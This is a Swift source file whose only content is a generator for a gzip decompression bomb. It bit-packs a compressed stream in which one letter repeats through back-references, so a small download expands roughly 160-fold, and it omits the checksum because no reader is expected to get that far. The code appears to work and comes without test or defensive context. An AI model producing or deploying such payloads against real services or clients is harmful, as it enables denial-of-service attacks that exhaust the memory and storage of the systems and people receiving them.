import Foundation

/// Gzip (RFC 1952) of one letter again and again, written bit by bit: about 160 bytes decoded for each sent.
struct GzipBomb {
    private var out = Data([0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255])
    private var accumulator = 0
    private var bits = 0

    /// The bytes, without the checksum at the end: nobody should read that far.
    static func bytes(decodingTo size: Int) -> Data {
        var bomb = GzipBomb()
        bomb.put(1, 1)
        bomb.put(1, 2)  // fixed codes
        bomb.putCode(0x30 + 0x61, 8)  // the letter "a"
        for _ in 0..<(max(0, size - 1) / 258) {
            bomb.putCode(0b1100_0101, 8)  // length 258
            bomb.putCode(0, 5)  // from one byte before
        }
        bomb.putCode(0, 7)  // the end
        bomb.put(0, (8 - bomb.bits) % 8)
        return bomb.out
    }

    private mutating func put(_ value: Int, _ count: Int) {
        for bit in 0..<count {
            accumulator |= (value >> bit & 1) << bits
            bits += 1
            if bits == 8 {
                out.append(UInt8(accumulator))
                accumulator = 0
                bits = 0
            }
        }
    }

    /// Huffman codes go most significant bit first (RFC 1951 section 3.1.1).
    private mutating func putCode(_ code: Int, _ count: Int) {
        for bit in (0..<count).reversed() { put(code >> bit & 1, 1) }
    }
}
